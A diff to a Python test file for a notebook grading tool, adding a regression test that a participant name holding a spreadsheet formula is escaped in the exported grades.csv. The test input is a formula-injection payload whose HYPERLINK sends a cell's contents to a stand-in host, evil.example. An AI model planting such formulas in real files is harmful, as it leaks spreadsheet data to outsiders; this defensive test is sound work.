@@ -181,3 +181,21 @@ def test_grading_a_crafted_set_of_submissions(tmp_path_factory):
     assert set(q_rows["blank"].values()) == {"not_answered"}
     assert nb_rows["junk"]["result"] == "unreadable"
     assert len(nb_rows) == 8  # every submission reported: grading went on after the bad ones
+
+
+def test_grades_csv_defuses_formulas(tmp_path):
+    """Issue 11: a participant named =HYPERLINK(...) ran as a formula in grades.csv.
+
+    The submission is not a notebook, so nothing is executed: only the CSV is written.
+    """
+    evil = '=HYPERLINK(CONCAT("evil.example?", A1), "click")'  # a folder name: no slash
+    folder = tmp_path / "submissions" / evil
+    folder.mkdir(parents=True)
+    (folder / "01-relationships-and-types.ipynb").write_text("not JSON", encoding="utf-8")
+    report = grade_submissions(tmp_path / "submissions", progress=False)
+    with report.csv.open(encoding="utf-8", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert len(rows) == 1
+    assert rows[0]["participant"] == "'" + evil
+    assert (rows[0]["result"], rows[0]["score"]) == ("unreadable", "0")
+    assert report.notebooks[0]["participant"] == evil  # the report itself is unchanged
